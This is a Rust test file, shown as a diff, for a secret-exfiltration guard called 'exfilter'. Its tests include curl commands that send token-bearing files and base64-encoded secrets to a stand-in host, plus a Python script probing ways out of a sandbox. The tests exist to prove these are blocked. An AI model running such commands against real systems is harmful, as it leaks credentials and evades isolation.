@@ -1,0 +1,291 @@
+//! `exfilter run`: what the command sees, what leaves it, and what is told.
+
+use std::os::unix::fs::PermissionsExt as _;
+use std::path::Path;
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use crate::harness::{Run, Sandbox, github_token, secret};
+use crate::upstream::{Answer, Arrived, Upstream};
+
+/// A command's environment and its servers.
+struct Stage {
+    sandbox: Sandbox,
+    server: Upstream,
+}
+
+fn echo(request: &Arrived) -> Answer {
+    let body = format!("got {}", request.header("authorization").unwrap_or_default());
+    Answer { status: 200, headers: Vec::new(), body: body.into_bytes() }
+}
+
+impl Stage {
+    fn new() -> Stage {
+        let sandbox = Sandbox::new();
+        let server = Upstream::start(&["api.github.com", "other.example.com"], &[b"http/1.1"], echo);
+        std::fs::write(sandbox.top().join("upstream.pem"), &server.ca).unwrap();
+        Stage { sandbox, server }
+    }
+
+    fn command(&self, args: &[&str], command: &[&str]) -> Command {
+        let mut all: Vec<String> =
+            vec!["run".into(), "--no-store".into(), "--upstream-ca".into(), "upstream.pem".into()];
+        for host in ["api.github.com", "other.example.com"] {
+            all.extend(["--resolve".into(), format!("{host}:443:{}", self.server.tls)]);
+        }
+        all.extend(args.iter().map(ToString::to_string));
+        all.push("--".into());
+        all.extend(command.iter().map(ToString::to_string));
+        self.sandbox.command(&all)
+    }
+
+    fn run(&self, args: &[&str], variables: &[(&str, &str)], command: &[&str]) -> Run {
+        self.sandbox.finish(self.command(args, command).envs(variables.iter().copied()))
+    }
+}
+
+fn has(program: &str) -> bool {
+    let ran = Command::new(program).arg("--version").stdout(Stdio::null()).stderr(Stdio::null()).status();
+    let is_there = ran.is_ok_and(|status| status.success());
+    if !is_there {
+        eprintln_skipped(program);
+    }
+    is_there
+}
+
+#[expect(clippy::print_stderr, reason = "a test that is skipped says so")]
+fn eprintln_skipped(program: &str) {
+    eprintln!("skipped: {program} is not on this machine");
+}
+
+#[test]
+fn the_command_gets_placeholders() {
+    let stage = Stage::new();
+    let (token, password, bare) = (github_token(), secret(20), secret(32));
+    let database = format!("postgres://me:{password}@db.example.com/x");
+    let header = format!("AUTHORIZATION: bearer {token}x and {token}");
+    let variables = [
+        ("GH_TOKEN", token.as_str()),
+        ("ANOTHER_NAME", &token),
+        ("DATABASE_URL", &database),
+        ("SOME_TOKEN", &bare),
+        ("GIT_CONFIG_VALUE_0", &header),
+        ("EXFILTER_STORE_KEY", "not for the command"),
+        ("NO_PROXY", "*"),
+        ("PLAIN", "as it is"),
+    ];
+    let run = stage.run(&[], &variables, &["env"]).exits_with(0);
+    let value = |name: &str| {
+        let line = run.stdout.lines().find_map(|line| line.strip_prefix(&format!("{name}=")));
+        line.map(ToOwned::to_owned)
+    };
+    let placeholder = value("GH_TOKEN").unwrap();
+    assert!(placeholder.starts_with("ghp_") && placeholder.len() == token.len(), "{run:#?}");
+    assert_eq!(value("ANOTHER_NAME").unwrap(), placeholder);
+    for gone in ["DATABASE_URL", "SOME_TOKEN", "GIT_CONFIG_VALUE_0", "EXFILTER_STORE_KEY"] {
+        assert_eq!(value(gone), None, "{run:#?}");
+    }
+    assert_eq!(value("PLAIN").unwrap(), "as it is");
+    assert_eq!((value("NO_PROXY").unwrap(), value("no_proxy").unwrap()), (String::new(), String::new()));
+    let proxy = value("https_proxy").unwrap();
+    assert!(proxy.starts_with("http://127.0.0.1:"));
+    for name in ["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "all_proxy"] {
+        assert_eq!(value(name).unwrap(), proxy);
+    }
+    let bundle = value("SSL_CERT_FILE").unwrap();
+    for name in
+        ["NODE_EXTRA_CA_CERTS", "GIT_SSL_CAINFO", "REQUESTS_CA_BUNDLE", "PIP_CERT", "npm_config_cafile"]
+    {
+        assert_eq!(value(name).unwrap(), bundle);
+    }
+    assert!(!Path::new(&bundle).exists(), "the folder is deleted at the end");
+    let run = run
+        .notes("ANOTHER_NAME is a placeholder; the real value goes to *.pkg.github.com, api.github.com, ghcr.io and 2 more alone")
+        .notes("SOME_TOKEN is taken away: nobody knows where it belongs")
+        .notes("DATABASE_URL is taken away")
+        .notes("GIT_CONFIG_VALUE_0 is taken away: a secret stands in its value")
+        .notes("nothing left");
+    assert!(!run.stderr.contains("PLAIN"));
+    // Kept as it is, if that is wished.
+    let plain = [("SOME_TOKEN", bare.as_str())];
+    let run = stage.run(&["--keep", "SOME_*"], &plain, &["sh", "-c", "test ${#SOME_TOKEN} = 32"]);
+    run.exits_with(0).notes("SOME_TOKEN is passed on as it is");
+    let run = stage.run(&["--observe"], &plain, &["sh", "-c", "test ${#SOME_TOKEN} = 32"]);
+    run.exits_with(0);
+}
+
+#[test]
+fn real_values_leave_in_requests_alone() {
+    if !has("curl") {
+        return;
+    }
+    let stage = Stage::new();
+    let token = github_token();
+    let variables = [("GH_TOKEN", token.as_str())];
+    let ask = "curl -sS -H \"Authorization: Bearer $GH_TOKEN\" ";
+    let script = format!("{ask} https://api.github.com/user; {ask} https://other.example.com/x");
+    let run = stage.run(&[], &variables, &["sh", "-c", &script]).exits_with(0);
+    let arrived = stage.server.requests();
+    assert_eq!(arrived.len(), 1, "{run:#?}");
+    assert_eq!(arrived[0].header("authorization").unwrap(), format!("Bearer {token}"));
+    let stars = "*".repeat(token.len());
+    run.prints(&format!("got Bearer {stars}"))
+        .prints("secret detected in header:authorization:bearer (github-pat)")
+        .notes("https://api.github.com:443  1 request, 0 B, 1 request with a real credential put in")
+        .notes("https://other.example.com:443  secret detected in header:authorization:bearer (github-pat)");
+
+    // A key that comes from a file, and the environment's own in another writing.
+    let (other, value) = (github_token(), secret(40));
+    std::fs::write(stage.sandbox.top().join("notes.txt"), format!("key: {other}\n")).unwrap();
+    let coded = crate::harness::base64(value.as_bytes());
+    stage.server.forget();
+    let script = format!(
+        "curl -sS --data-binary @notes.txt https://other.example.com/; curl -sS -d {coded} https://other.example.com/"
+    );
+    let mut command = stage.command(&["--allow", "other.example.com"], &["sh", "-c", &script]);
+    let run = stage.sandbox.finish(command.env("SOME_TOKEN", &value)).exits_with(0);
+    assert!(stage.server.requests().is_empty());
+    // What sent it learns nothing of an enrolled one.
+    run.prints("blocked by policy, reference ")
+        .notes("secret detected in body (SOME_TOKEN)")
+        .notes("nothing left");
+    let run = stage.run(&["--allow", "other.example.com"], &[], &["curl", "-sS", "https://api.github.com/"]);
+    run.exits_with(56).notes("not one of those that may be reached");
+    // Observed, it leaves and is told of.
+    let run = stage.run(
+        &["--observe"],
+        &[],
+        &["curl", "-sS", "--data-binary", "@notes.txt", "https://other.example.com/"],
+    );
+    run.exits_with(0).notes("github-pat (high) in body").notes("what would have been stopped");
+}
+
+#[test]
+fn exit_codes_and_signals_are_passed_on() {
+    let stage = Stage::new();
+    stage.run(&[], &[], &["sh", "-c", "exit 7"]).exits_with(7);
+    stage.run(&[], &[], &["sh", "-c", "kill -9 $$"]).exits_with(137);
+    stage.run(&[], &[], &["./is-not-there"]).exits_with(2).notes("./is-not-there: cannot be run");
+    stage.run(&["--allow", "a b"], &[], &["true"]).exits_with(2).notes("--allow a b");
+    let modes = "stat -c %a \"$SSL_CERT_FILE\" \"${SSL_CERT_FILE%/*}\"";
+    stage.run(&[], &[], &["sh", "-c", modes]).exits_with(0).prints("600\n700\n");
+    ends_by_signal(&stage, &[]);
+}
+
+/// Every request is a line, and no line can be changed unseen.
+#[test]
+fn requests_are_written_down_in_a_chain() {
+    if !has("curl") {
+        return;
+    }
+    let stage = Stage::new();
+    let log = |run: Run| run.stderr.lines().last().unwrap().rsplit_once(' ').unwrap().1.to_owned();
+    let token = github_token();
+    let first = log(stage
+        .run(&["--log", "run.report"], &[], &["curl", "-sS", "https://other.example.com/a"])
+        .exits_with(0));
+    let command = ["curl", "-sS", "-d", &token, "https://other.example.com/b"];
+    let second = log(stage.run(&["--log", "run.report"], &[], &command).exits_with(0));
+    let path = stage.sandbox.top().join("run.report");
+    let text = std::fs::read_to_string(&path).unwrap();
+    let lines: Vec<serde_json::Value> =
+        text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+    assert_eq!((lines[0]["outcome"].as_str(), lines[1]["outcome"].as_str()), (Some("sent"), Some("refused")));
+    assert_eq!(
+        (&lines[1]["found"][0]["what"], &lines[1]["found"][0]["action"]),
+        (&"github-pat".into(), &"block".into())
+    );
+    assert_eq!(lines[1]["to"], "https://other.example.com:443");
+    assert_eq!((lines[0]["hash"].as_str(), lines[1]["hash"].as_str()), (Some(&*first), Some(&*second)));
+    let verify = |head: &[&str]| stage.sandbox.run(&[&["log", "verify", "run.report"], head].concat());
+    verify(&[]).exits_with(0).notes("2 lines in one chain");
+    verify(&["--head", &second]).exits_with(0);
+    verify(&["--head", &first]).exits_with(1).notes("lines are missing");
+    std::fs::write(&path, text.replacen("\"sent\"", "\"lost\"", 1)).unwrap();
+    verify(&[]).exits_with(1).notes("run.report:1: this line, or one before it, was changed");
+    // A request that cannot be written down does not leave.
+    let run = stage.run(&["--log", "run.report"], &[], &["true"]).exits_with(2);
+    run.notes("run.report:1");
+    stage.server.forget();
+    let full = ["curl", "-sS", "https://other.example.com/a"];
+    if Path::new("/dev/full").exists() {
+        stage.run(&["--log", "/dev/full"], &[], &full).notes("exfilter");
+        assert!(stage.server.requests().is_empty());
+    }
+}
+
+/// A command that ends with 5 when it is asked to.
+fn ends_by_signal(stage: &Stage, args: &[&str]) {
+    let script = "trap 'exit 5' TERM; touch ready; i=0; while [ $i -lt 200 ]; do sleep 0.1; i=$((i+1)); done";
+    let mut command = stage.command(args, &["sh", "-c", script]);
+    let mut child = command.stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
+    let begun = Instant::now();
+    let ready = stage.sandbox.top().join("ready");
+    while !ready.exists() && begun.elapsed() < Duration::from_secs(60) {
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    let killed = Command::new("kill").args(["-TERM", &child.id().to_string()]).status().unwrap();
+    assert!(killed.success());
+    assert_eq!(child.wait().unwrap().code(), Some(5));
+    std::fs::remove_file(ready).unwrap();
+}
+
+#[test]
+fn the_bundle_is_private_while_it_is_there() {
+    let stage = Stage::new();
+    let script = "cp -p \"$SSL_CERT_FILE\" kept.pem";
+    stage.run(&[], &[], &["sh", "-c", script]).exits_with(0);
+    let kept = stage.sandbox.top().join("kept.pem");
+    assert_eq!(kept.metadata().unwrap().permissions().mode() & 0o777, 0o600);
+    let text = std::fs::read_to_string(kept).unwrap();
+    assert!(text.matches("BEGIN CERTIFICATE").count() >= 2 && !text.contains("PRIVATE"));
+}
+
+/// Every direct way out fails, and the guard's does not.
+#[test]
+fn isolated_commands_have_one_way_out() {
+    if !has("bwrap") || !has("python3") || !has("curl") {
+        return;
+    }
+    let stage = Stage::new();
+    let probe = stage.run(&["--isolate"], &[], &["true"]);
+    if probe.code == Some(2) && probe.stderr.contains("may not make namespaces") {
+        eprintln_skipped("bwrap with namespaces");
+        return;
+    }
+    probe.exits_with(0);
+    let script = format!(
+        "import socket, os\n\
+         def tried(name, call):\n\
+         \x20   try: call(); print(name, 'OPEN')\n\
+         \x20   except OSError as e: print(name, 'closed')\n\
+         def tcp(family, address):\n\
+         \x20   s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(5); s.connect(address)\n\
+         def udp(family, address):\n\
+         \x20   s = socket.socket(family, socket.SOCK_DGRAM); s.sendto(b'x', address)\n\
+         tried('loopback', lambda: tcp(socket.AF_INET, ('127.0.0.1', {port})))\n\
+         tried('ipv4', lambda: tcp(socket.AF_INET, ('192.0.2.1', 443)))\n\
+         tried('ipv6', lambda: tcp(socket.AF_INET6, ('2001:db8::1', 443)))\n\
+         tried('udp', lambda: udp(socket.AF_INET, ('192.0.2.1', 53)))\n\
+         tried('udp6', lambda: udp(socket.AF_INET6, ('2001:db8::1', 53)))\n\
+         tried('dns', lambda: socket.getaddrinfo('example.com', 443))\n\
+         print('others', [p for p in os.listdir('/proc') if p.isdigit() and open('/proc/' + p + '/comm').read() == 'exfilter\\n' and b'forward' not in open('/proc/' + p + '/cmdline', 'rb').read()])\n",
+        port = stage.server.plain.port()
+    );
+    std::fs::write(stage.sandbox.top().join("direct.py"), script).unwrap();
+    let run = stage.run(&["--isolate"], &[], &["python3", "direct.py"]).exits_with(0);
+    for name in ["loopback", "ipv4", "ipv6", "udp", "udp6", "dns"] {
+        assert!(run.stdout.contains(&format!("{name} closed")), "{run:#?}");
+    }
+    assert!(
+        run.stdout.contains("others []"),
+        "the guard's process, whose environment has real values, is not seen: {run:#?}"
+    );
+    let token = github_token();
+    let script = "curl -sS -H \"Authorization: Bearer $GH_TOKEN\" https://api.github.com/user; curl -sS http://127.0.0.1:9/";
+    let run = stage.run(&["--isolate"], &[("GH_TOKEN", &token)], &["sh", "-c", script]).exits_with(0);
+    assert_eq!(stage.server.requests()[0].header("authorization").unwrap(), format!("Bearer {token}"));
+    run.prints("got Bearer ****").prints("private network").notes("1 request with a real credential put in");
+    stage.run(&["--isolate"], &[], &["sh", "-c", "exit 7"]).exits_with(7);
+    ends_by_signal(&stage, &["--isolate"]);
+}
